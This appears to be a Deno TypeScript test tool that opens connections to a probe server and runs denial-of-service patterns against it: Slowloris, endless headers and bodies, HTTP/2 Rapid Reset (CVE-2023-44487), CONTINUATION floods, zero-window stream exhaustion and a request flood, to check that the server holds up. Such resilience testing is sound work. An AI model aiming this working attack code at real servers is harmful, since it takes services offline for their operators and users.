/**
 * An attacker as a process of its own. Arguments: the probe's address, the shape of the attack, how
 * many connections, and a path. Runs until it is killed. Once all connections have been opened or
 * refused, it writes every 100 ms how many requests, or parts of requests, it has sent.
 */
import { bytesOf, send } from "./bytes.ts";
import { ODDITIES } from "./oddities.ts";

type Attack = (connection: Deno.Conn, nth: number) => Promise<void>;

const [address = "", shape = "", count, path = "/"] = Deno.args;
const { hostname, port } = new URL(address);
let sent = 0;

const HALF = `GET ${path} HTTP/1.1\r\nHost: probe\r\n`;
const GET = `${HALF}\r\n`;

const HTTP2 = `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${frame(4, 0, 0, "")}`;
/** The header block of a GET over http. RFC 7541. */
const HEADER_BLOCK = `\x82\x86\x04${String.fromCharCode(path.length)}${path}\x41\x05probe`;

/** Attacks that run once on each connection, which then stays open. */
const ONCE: Record<string, Attack> = {
  /** Sends nothing. */
  idle: () => Promise.resolve(),
  /** Sends an incomplete request. */
  half: (connection) => sendPart(connection, HALF),
  /** The same with as many headers as the server accepts. */
  halfOfMany: (connection) => sendPart(connection, HALF + headers(60)),
  /** Sends an incomplete request, and another header every second. */
  async loris(connection) {
    await sendPart(connection, HALF);
    for (;; await pause(1_000)) await sendPart(connection, "X-a: b\r\n");
  },
  /** Sends a request and never reads the response. */
  unread: (connection) => sendPart(connection, GET),
  /**
   * Sends requests without end and never reads a response. Not as fast as it can: Deno buffers
   * requests without a limit until their responses are ready, so that the result would only show
   * the speed of the sender.
   */
  async unreadOften(connection) {
    for (;; await pause(10)) await sendPart(connection, GET);
  },
  /** HTTP/2: sends as many concurrent requests as are allowed, with a flow-control window of 0. */
  async unreadStreams(connection) {
    await sendPart(connection, HTTP2 + frame(4, 0, 0, "\0\x04\0\0\0\0"));
    for (let stream = 1; stream < 200; stream += 2) {
      await sendPart(connection, frame(1, 5, stream, HEADER_BLOCK));
    }
  },
};

/** Attacks that run on one connection after the other, each until it is refused or over. */
const REPEATED: Record<string, Attack> = {
  /** Sends headers without end. */
  async endlessHeaders(connection) {
    await sendPart(connection, HALF);
    await repeat(connection, headers(8));
  },
  /** Sends a single header without end. */
  async endlessHeader(connection) {
    await sendPart(connection, `${HALF}X: `);
    await repeat(connection, "a".repeat(8 * 1024));
  },
  /** Sends an endless body, which no endpoint reads. */
  async endlessBody(connection) {
    await sendPart(
      connection,
      `POST ${path} HTTP/1.1\r\nHost: probe\r\nContent-Length: 1000000000\r\n\r\n`,
    );
    await repeat(connection, "x".repeat(64 * 1024));
  },
  /** HTTP/2: sends requests without end and cancels each at once. CVE-2023-44487. */
  async rapidReset(connection) {
    await sendPart(connection, HTTP2);
    for (let stream = 1;; stream += 2) {
      await sendPart(
        connection,
        frame(1, 5, stream, HEADER_BLOCK) + frame(3, 0, stream, "\0\0\0\x08"),
      );
      await pause(0);
    }
  },
  /** HTTP/2: continues the headers of a request in frames without end. */
  async continuation(connection) {
    await sendPart(connection, HTTP2 + frame(1, 1, 1, HEADER_BLOCK));
    await repeat(connection, frame(9, 0, 1, `\0\x01x\x7f\x81\x06${"a".repeat(1e3)}`));
  },
  /** Sends a request and leaves; every other time without waiting for the response. */
  async churn(connection, nth) {
    await sendPart(connection, GET);
    if (nth % 2 === 0) await connection.read(new Uint8Array(16 * 1024));
  },
  /** Sends malformed and unusual requests. */
  async oddities(connection, nth) {
    const oddity = ODDITIES[nth % ODDITIES.length];
    if (oddity) await sendPart(connection, oddity.request);
    if (nth % 2 === 0) await connection.read(new Uint8Array(16 * 1024));
  },
};

/** A frame of HTTP/2. */
function frame(type: number, flags: number, stream: number, payload: string): string {
  const numbers = [payload.length >> 16, payload.length >> 8, payload.length, type, flags];
  const id = [stream >> 24, stream >> 16, stream >> 8, stream];
  return String.fromCharCode(...[...numbers, ...id].map((each) => each & 255)) + payload;
}

/** `count` headers of a kilobyte each. */
function headers(count: number): string {
  return Array.from({ length: count }, (_, i) => `X-${i}: ${"a".repeat(1000)}\r\n`).join("");
}

async function sendPart(connection: Deno.Conn, data: string | Uint8Array): Promise<void> {
  await send(connection, data);
  sent++;
}

async function repeat(connection: Deno.Conn, text: string): Promise<never> {
  const bytes = bytesOf(text);
  // A write that completes at once would never let the other connections run.
  for (;; await pause(0)) await sendPart(connection, bytes);
}

async function runRepeatedly(attack: Attack): Promise<never> {
  for (let nth = 0;; nth++) {
    try {
      using connection = await Deno.connect({ hostname, port: Number(port) });
      await attack(connection, nth);
    } catch {
      // The server refused it, as it should. The pause lets the other connections run.
      await pause(1);
    }
  }
}

async function runOnce(attack: Attack, nth: number): Promise<void> {
  try {
    const connection = await Deno.connect({ hostname, port: Number(port) });
    open.push(connection);
    // Not awaited: some attacks never end.
    attack(connection, nth).catch(() => {});
  } catch {
    // The server accepts no more connections.
  }
}

/** Sends requests as fast as it can, and reads the responses. */
async function flood(): Promise<never> {
  const accept = path === "/" ? "text/html" : "*/*";
  for (;;) {
    // A query of its own keeps each page from being served from the cache.
    const url = new URL(path === "/" ? `/?before=${1e6 + sent}` : path, address);
    try {
      await (await fetch(url, { headers: { accept } })).bytes();
      sent++;
    } catch {
      await pause(10);
    }
  }
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

/** Keeps the connections from being collected as garbage, which would close them. */
const open: Deno.Conn[] = [];

for (let nth = 0; nth < Number(count); nth++) {
  const once = ONCE[shape];
  const repeated = REPEATED[shape];
  if (once) await runOnce(once, nth);
  else if (repeated) runRepeatedly(repeated);
  else flood();
}
setInterval(() => console.log(Math.max(sent, open.length)), 100);
